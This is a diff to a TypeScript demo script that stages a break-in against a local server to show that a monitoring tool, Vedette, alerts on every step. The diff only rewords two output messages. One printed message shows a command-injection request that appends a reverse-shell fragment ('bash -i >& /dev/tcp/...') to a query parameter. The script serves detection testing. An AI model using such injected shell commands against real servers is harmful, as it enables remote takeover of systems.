@@ -30,7 +30,7 @@ const ended = new Promise<number>((done) => watched.on("exit", (status) => done(
 await untilAnswering(`http://127.0.0.1:${port}/?host=localhost`);
 
 say(
-  "2. An attacker finds that the server gives what it is asked for to a shell, and has it call back:",
+  "2. An attacker finds that the server passes its input to a shell, and makes the shell call back:",
   "GET /?host=localhost; bash -i >& /dev/tcp/...",
 );
 const closeCredentials = await serveCredentials();
@@ -58,7 +58,7 @@ if (unseen.length > 0) {
   console.log(`\nThe demo failed: no alert came for ${unseen.join(", ")}.`);
   process.exit(1);
 }
-console.log("\nEvery step of the break-in was noticed, from outside the kernel, while the server ran on as before.");
+console.log("\nVedette noticed every step of the break-in, from outside the kernel, and the server ran on as before.");
 console.log("Next: `npm test`, or watch a program of your own: `node build/js/host/main.js trace -- ls`.");
 
 function readAlerts(): Alert[] {
